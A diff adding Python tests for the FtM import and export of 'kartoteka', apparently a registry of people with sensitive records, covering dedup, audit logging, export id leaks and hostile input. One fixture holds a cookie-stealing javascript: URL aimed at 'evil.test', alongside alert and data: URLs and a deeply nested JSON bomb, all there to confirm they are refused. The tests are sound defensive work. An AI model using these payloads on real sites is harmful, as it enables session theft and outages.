@@ -298,3 +298,232 @@ def test_an_internal_file_never_merges_into_a_public_person(db: Db, tmp_path: Pa
     assert "Тестова" in published and "Внутрішній" not in published and "Внутрішнє село" not in published
     held = next(r.new_person for r in report.review)
     assert get_person(db.engine, held).person["sensitivity"] == "internal"
+
+
+def test_long_ids_alike_in_their_stored_length_are_two_records(db: Db, tmp_path: Path) -> None:
+    """Two persons whose ids share their first 120 characters were both stored under that prefix: the unique
+    ext_id failed with a traceback (sqlite3.IntegrityError) and nothing was imported."""
+    stem = "z-person-" + "x" * 130
+    path = tmp_path / "long.json"
+    path.write_text("\n".join(json.dumps({"id": stem + tail, "schema": "Person", "properties": {"name": [name]}},
+                                         ensure_ascii=False)
+                              for tail, name in (("A", "Длиннов Первый"), ("B", "Длиннов Второй"))) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org Z", actor="t")
+    assert report.created == 2
+    again = import_ftm(db.engine, path=path, organisation="Org Z", actor="t")   # found again by their statements
+    assert (again.created, again.statements) == (0, 0)
+
+
+def test_the_import_audits_its_citations_and_says_why_a_match_is_held(db: Db, tmp_path: Path) -> None:
+    """A citation the import wrote had no audit entry (a source cited by hand logs 'cite'); and a person held
+    for review because the file is more closely held than the matched public person was explained as 'the
+    birth dates differ' when they were the same."""
+    from kartoteka.db.tables import audit_log, citations, imports
+
+    _registry(db, tmp_path)                                  # P1 public, born 1984-02-11
+    path = tmp_path / "b.json"
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "b-person-1", "schema": "Person", "properties": {"name": ["Тестова Олена Ігорівна"],
+                                                                "birthDate": ["1984-02-11"]}},
+        {"id": "b-doc-1", "schema": "Document", "properties": {"title": ["Звіт"], "sourceUrl": ["https://x.test/1"]}},
+        {"id": "b-dd-1", "schema": "Documentation", "properties": {"document": ["b-doc-1"], "entity": ["b-person-1"]}},
+    ]) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org B", actor="t")
+    assert [r.existing for r in report.review] == ["P1"]
+    assert "birth dates differ" not in report.review[0].reason and "more closely held" in report.review[0].reason
+    with db.engine.connect() as conn:
+        batch = conn.execute(select(imports.c.id).where(imports.c.kind == "ftm")).scalar_one()
+        cited = conn.execute(select(citations.c.entity_type, citations.c.entity_id)).all()
+        logged = conn.execute(select(audit_log.c.entity_type, audit_log.c.entity_id).where(
+            audit_log.c.batch == batch, audit_log.c.action == "cite")).all()
+    assert len(cited) == 1 and sorted(logged) == sorted(cited)
+
+
+def _hidden_first(engine: Any, tmp: Path, *, hidden: bool) -> None:
+    """P1 public with a public source and recognition; with ``hidden``, a confidential person's source and
+    recognition are recorded first, taking the first database ids."""
+    from kartoteka.services.custody import add_recognition
+    from kartoteka.services.evidence import add_source, cite
+
+    class _Db:   # what _registry needs of the fixture
+        def __init__(self, engine: Any) -> None:
+            self.engine = engine
+
+    _registry(_Db(engine), tmp)                                # type: ignore[arg-type]
+    people = {ext: get_person(engine, ext).person["id"] for ext in ("P1", "P3")}
+    order = (("P3", "confidential", "https://example.org/hidden"),) if hidden else ()
+    for ext, level, url in (*order, ("P1", "public", "https://example.org/open")):
+        sid = add_source(engine, actor="t", media_dir=tmp / "media", url=url, title="Статья", sensitivity=level)
+        cite(engine, actor="t", source_id=sid, entity_type="person", entity_id=people[ext])
+        add_recognition(engine, person=ext, organisation="Memorial", statement=url, stated_on="2024-03-01",
+                        actor="t", role="reviewer")
+
+
+def test_ftm_ids_say_nothing_of_the_records_left_out(tmp_path: Path) -> None:
+    """Leak: a Document's id was its database id and a Sanction's its recognition's ('kartoteka-source-2',
+    'kartoteka-recognition-r2'), so a public file showed that records hidden from it came before. Now the
+    export of a registry with hidden records is the export of one in which they never existed."""
+    files = []
+    for hidden in (True, False):
+        folder = tmp_path / f"hidden-{hidden}"
+        folder.mkdir()
+        engine = _sqlite(folder / "k.db")
+        _hidden_first(engine, folder, hidden=hidden)
+        export_ftm(engine, out=folder / "out.ftm.json")
+        files.append((folder / "out.ftm.json").read_text("utf-8"))
+    assert '"Document"' in files[0] and '"Sanction"' in files[0] and "hidden" not in files[0]
+    assert files[0] == files[1]
+    ids = [e["id"] for e in map(json.loads, files[0].splitlines())]
+    assert len(ids) == len(set(ids))
+
+
+def test_a_recognition_under_a_new_id_is_not_recorded_twice(db: Db, tmp_path: Path) -> None:
+    """A partner's file exported before the ids were content keys, then after: the same recognition once."""
+    path = tmp_path / "r.json"
+    rec = {"entity": ["w-person-1"], "authority": ["Memorial"], "listingDate": ["2024-03-01"],
+           "reason": ["https://example.org/r"]}
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "w-person-1", "schema": "Person", "properties": {"name": ["Признанов Пётр"]}},
+        {"id": "w-recognition-r7", "schema": "Sanction", "properties": rec},
+        {"id": "w-recognition-0f3a9c", "schema": "Sanction", "properties": rec},
+    ]) + "\n", "utf-8")
+    assert import_ftm(db.engine, path=path, organisation="Org W", actor="t").recognitions == 1
+
+
+def test_a_source_address_that_is_not_http_is_left_out(db: Db, tmp_path: Path) -> None:
+    """Another organisation's Document with sourceUrl 'javascript:...' was stored as the source's address, which
+    the person page renders as a link and `publish` writes to sources.jsonl; a source added by hand refuses it."""
+    from kartoteka.db.tables import recognitions, sources
+
+    path = tmp_path / "x.json"
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "v-person-1", "schema": "Person", "properties": {"name": ["Ссылкин Семён"]}},
+        {"id": "v-doc-1", "schema": "Document", "properties": {"title": ["Один"], "sourceUrl": [
+            "javascript:fetch('//evil.test/'+document.cookie)", "https://example.org/ok"]}},
+        {"id": "v-doc-2", "schema": "Document", "properties": {"title": ["Два"], "sourceUrl": ["data:text/html,<b>"]}},
+        {"id": "v-dd-1", "schema": "Documentation", "properties": {"document": ["v-doc-1"], "entity": ["v-person-1"]}},
+        {"id": "v-dd-2", "schema": "Documentation", "properties": {"document": ["v-doc-2"], "entity": ["v-person-1"]}},
+        {"id": "v-rec-1", "schema": "Sanction", "properties": {"entity": ["v-person-1"], "listingDate": ["2024-01"],
+                                                             "sourceUrl": ["javascript:alert(1)"], "reason": ["Заявление"]}},
+    ]) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org V", actor="t")
+    assert (report.sources, report.recognitions) == (2, 1)
+    with db.engine.connect() as conn:
+        urls = dict(conn.execute(select(sources.c.title, sources.c.url)).all())
+        said = conn.execute(select(statements.c.value).where(statements.c.prop == "recognition")).scalars().all()
+        recognised = conn.execute(select(recognitions.c.statement)).scalars().all()
+    assert urls == {"Один": "https://example.org/ok", "Два": ""}
+    assert recognised == ["Заявление"] and said and all("javascript" not in v for v in said)
+
+
+def test_what_is_left_out_is_named_by_line_and_entity_in_each_language(db: Db, tmp_path: Path) -> None:
+    """An entity left out (no name, no date, an unknown schema, nothing linking it) or a value left empty (a
+    date that is none) was only counted as 'skipped': the report now names each, by line and id."""
+    from kartoteka.web.i18n import translations
+
+    path = tmp_path / "notes.json"
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "n-person-1", "schema": "Person", "properties": {"name": ["Датов Дат"], "birthDate": ["1984-13-45"]}},
+        {"id": "n-person-2", "schema": "Person", "properties": {"alias": []}},
+        {"id": "n-company-1", "schema": "Company", "properties": {"name": ["ООО Тест"]}},
+        {"id": "n-case-1", "schema": "CourtCase", "properties": {"name": ["Дело"]}},
+        {"id": "n-rec-1", "schema": "Sanction", "properties": {"entity": ["n-person-1"]}},
+        {"id": "n-rec-2", "schema": "Sanction", "properties": {"entity": ["nobody"], "listingDate": ["2024"]}},
+        {"id": "n-doc-1", "schema": "Document", "properties": {"title": ["Ничей"]}},
+    ]) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org N", actor="t", dry_run=True)
+    assert [str(n) for n in report.notes] == [
+        "line 1: Person n-person-1: birthDate '1984-13-45' is not a date (YYYY, YYYY-MM or YYYY-MM-DD); left empty",
+        "line 2: Person n-person-2 left out: it has no name",
+        "line 3: Company n-company-1 left out: Kartoteka reads Person, CourtCase, CourtCaseParty, Document, "
+        "Documentation and Sanction",
+        "line 4: CourtCase n-case-1 left out: no CourtCaseParty links it to a person of the file",
+        "line 5: Sanction n-rec-1 left out: it has no listingDate or startDate",
+        "line 6: Sanction n-rec-2 left out: it names no person or case of the file",
+        "line 7: Document n-doc-1 left out: no Documentation links it to a person or case of the file"]
+    assert report.notes[1].translated(translations("uk").gettext) == "рядок 2: Person n-person-2 пропущено: у нього немає імені"
+    assert report.notes[0].translated(translations("ru").gettext).startswith("строка 1: Person n-person-1: birthDate")
+    assert get_person_or_none(db, "n-person-1") is None                 # a dry run writes nothing
+
+
+def get_person_or_none(db: Db, ext: str) -> Any:
+    from kartoteka.db.tables import persons
+
+    with db.engine.connect() as conn:
+        return conn.execute(select(persons.c.id).where(persons.c.ext_id == ext)).first()
+
+
+def test_a_missing_file_or_a_folder_is_named_not_a_traceback(db: Db, tmp_path: Path) -> None:
+    """`import ftm nonexist.json` ended in FileNotFoundError, a folder in IsADirectoryError."""
+    import pytest
+
+    from kartoteka.errors import InvalidInput
+
+    for path in (tmp_path / "nonexist.json", tmp_path):
+        with pytest.raises(InvalidInput, match="no such file"):
+            import_ftm(db.engine, path=path, organisation="Org X", actor="t")
+
+
+def test_one_person_written_twice_in_a_file_is_listed_for_review(db: Db, tmp_path: Path) -> None:
+    """A file holding one person in Cyrillic and in Latin made two new persons with nothing linking them (the
+    matcher saw the registry as it was before the file)."""
+    path = tmp_path / "twice.json"
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "t-person-1", "schema": "Person", "properties": {"name": ["Шевченко Тарас Григорович"],
+                                                                "birthDate": ["1979"]}},
+        {"id": "t-person-2", "schema": "Person", "properties": {"name": ["Коваленко Оксана"], "birthDate": ["1990"]}},
+        {"id": "t-person-3", "schema": "Person", "properties": {"name": ["Shevchenko Taras Hryhorovych"],
+                                                                "birthDate": ["1979-05"]}},
+    ]) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org T", actor="t")
+    assert report.created == 3
+    assert [(r.new_person, r.existing) for r in report.review] == [("3", "1")]
+    assert report.review[0].because == "both are in this file" and report.review[0].score >= 0.7
+    claims = {c.prop: c for c in person_claims(db.engine, person="3")}
+    assert claims["possibly_same"].values[0].value.startswith("1 (")
+
+
+def test_a_judge_named_as_a_party_is_neither_a_person_nor_the_defendant(db: Db, tmp_path: Path) -> None:
+    """Court data names judges and prosecutors as CourtCaseParty too: the judge became a registry person, and
+    when the judge's party came after the defendant's the case was attached to the judge."""
+    path = tmp_path / "court.json"
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "j-person-1", "schema": "Person", "properties": {"name": ["Подсудимов Игорь"]}},
+        {"id": "j-person-2", "schema": "Person", "properties": {"name": ["Судейкин Виктор"]}},
+        {"id": "j-case-1", "schema": "CourtCase", "properties": {"name": ["Дело"], "summary": ["ст. 280.3 УК РФ"]}},
+        {"id": "j-party-1", "schema": "CourtCaseParty", "properties": {"party": ["j-person-1"], "case": ["j-case-1"],
+                                                                       "role": ["defendant"]}},
+        {"id": "j-party-2", "schema": "CourtCaseParty", "properties": {"party": ["j-person-2"], "case": ["j-case-1"],
+                                                                       "role": ["judge"]}},
+    ]) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org J", actor="t")
+    assert (report.created, report.cases) == (1, 1)
+    assert get_person(db.engine, "1").cases[0]["articles_text"] == "ст. 280.3 УК РФ"
+    assert get_person_or_none(db, "2") is None
+    assert [str(n) for n in report.notes] == [
+        "line 2: Person j-person-2 left out: a party of the file's cases only as 'judge', not as a defendant"]
+
+
+def test_a_hostile_file_is_refused_by_the_import_limits(db: Db, tmp_path: Path, monkeypatch: Any) -> None:
+    """A line nested 100,000 deep ended in a RecursionError (a traceback), and the file size limit every other
+    import keeps (KARTOTEKA_MAX_FILE_MB) did not hold for FtM."""
+    import pytest
+
+    from kartoteka.errors import InvalidInput
+    from kartoteka.settings import get_settings
+
+    deep = tmp_path / "deep.json"
+    deep.write_text("[" * 100_000 + "]" * 100_000 + "\n", "utf-8")
+    with pytest.raises(InvalidInput, match="line 1: nested 100000 levels deep"):
+        import_ftm(db.engine, path=deep, organisation="Org H", actor="t")
+    big = tmp_path / "big.json"
+    big.write_text(json.dumps({"id": "h-1", "schema": "Person", "properties": {"name": ["Большов Борис"]}}) + "\n"
+                   + " " * (1024 * 1024) + "\n", "utf-8")
+    monkeypatch.setenv("KARTOTEKA_MAX_FILE_MB", "1")
+    get_settings.cache_clear()
+    try:
+        with pytest.raises(InvalidInput, match="over the limit of 1 MB"):
+            import_ftm(db.engine, path=big, organisation="Org H", actor="t")
+    finally:
+        monkeypatch.undo()
+        get_settings.cache_clear()
